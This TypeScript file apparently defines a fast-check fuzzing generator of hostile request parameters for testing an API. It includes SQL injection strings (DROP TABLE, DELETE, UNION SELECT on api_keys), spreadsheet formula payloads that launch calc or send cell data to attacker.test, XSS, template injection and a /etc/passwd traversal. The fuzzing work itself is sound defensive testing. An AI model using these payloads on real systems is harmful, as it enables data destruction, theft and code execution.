import fc from 'fast-check';

/**
 * The values a hostile client puts in a parameter, as bytes (so that broken UTF-8 survives to the
 * wire). None contains a file path (`/work`, `src/`, `.ts:`): some error texts echo what they were
 * given (`Invalid timezone: …`), and the campaign reads a path in an error as a leak.
 */

const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');

export const SQL_INJECTIONS = [
  "' OR '1'='1",
  "1' OR 1=1 --",
  '1 OR 1=1',
  '1; DROP TABLE contacts; --',
  "' UNION SELECT key_hash, masked FROM api_keys --",
  "'); DELETE FROM messages; --",
  "%' AND account_id <> 0 AND '%'='",
  '1) OR (1=1',
  "\\'; SELECT pg_sleep(0); --",
  '" OR ""="',
  "admin'--",
  '1 UNION ALL SELECT NULL,NULL,NULL--',
];

export const CSV_INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.test/?x="&A1,"click")',
  '+1+1',
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '"=1",",","\n',
];

export const MARKUP_AND_TEMPLATES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '%s%s%s%n',
  '{first_name}{last_name}{{name}}',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];

export const NUMBER_LIKE = [
  '0',
  '-1',
  '-0',
  '1.5',
  '1e3',
  '1e309',
  'NaN',
  'Infinity',
  '9007199254740993',
  '99999999999999999999999999',
  '2147483648',
  '0x10',
  ' 1',
  '1 ',
  '+1',
  '00001',
  '١٢٣',
  '1,2',
  'true',
  'null',
];

export const UNICODE = [
  'é',
  'Ωmega',
  '😀👍🏽',
  '\u202eevil',
  '\uFEFFbom',
  'a\u0000b',
  '\u0000',
  ' ',
  '\t\n\r',
  'ＡＢＣ',
  'ß',
];

/** Byte sequences that are not UTF-8: lone continuation, truncated, overlong, surrogates, 5-byte forms. */
export const BROKEN_UTF8: readonly Uint8Array[] = [
  Uint8Array.from([0xff]),
  Uint8Array.from([0xc3, 0x28]),
  Uint8Array.from([0xe2, 0x82]),
  Uint8Array.from([0xed, 0xa0, 0x80]),
  Uint8Array.from([0xc0, 0xaf]),
  Uint8Array.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Uint8Array.from([0x80, 0x80, 0x80]),
  Uint8Array.from([0x61, 0xfe, 0x62]),
];

/**
 * Lengths around the limits: 1000 (default maxLength), 4000, 64 KB, and past the 1 MB body limit
 * (rare). Built once: a megabyte string per draw would make the generator the campaign's bottleneck.
 */
const HUGE_VALUES: readonly Uint8Array[] = [1001, 4001, 5001, 20_001].flatMap((length) =>
  ['a', '9', 'é', '😀', "'"].map((unit) => text(unit.repeat(length))),
);
const hugeValue: fc.Arbitrary<Uint8Array> = fc.oneof(
  { arbitrary: fc.constantFrom(...HUGE_VALUES), weight: 10 },
  { arbitrary: fc.constant(text('x'.repeat(70_000))), weight: 2 },
  { arbitrary: fc.constant(text('é'.repeat(600_000))), weight: 1 },
);

/** One hostile value: injections, odd numbers and Unicode, broken bytes, huge and empty values. */
export const hostileValue: fc.Arbitrary<Uint8Array> = fc.oneof(
  { arbitrary: fc.constantFrom(...SQL_INJECTIONS).map(text), weight: 4 },
  { arbitrary: fc.constantFrom(...CSV_INJECTIONS).map(text), weight: 2 },
  { arbitrary: fc.constantFrom(...MARKUP_AND_TEMPLATES).map(text), weight: 2 },
  { arbitrary: fc.constantFrom(...NUMBER_LIKE).map(text), weight: 4 },
  { arbitrary: fc.constantFrom(...UNICODE).map(text), weight: 2 },
  { arbitrary: fc.constantFrom(...BROKEN_UTF8), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map(text), weight: 3 },
  { arbitrary: fc.uint8Array({ maxLength: 40 }), weight: 2 },
  { arbitrary: hugeValue, weight: 1 },
  { arbitrary: fc.constant(new Uint8Array()), weight: 2 },
);

export const asBytes = text;
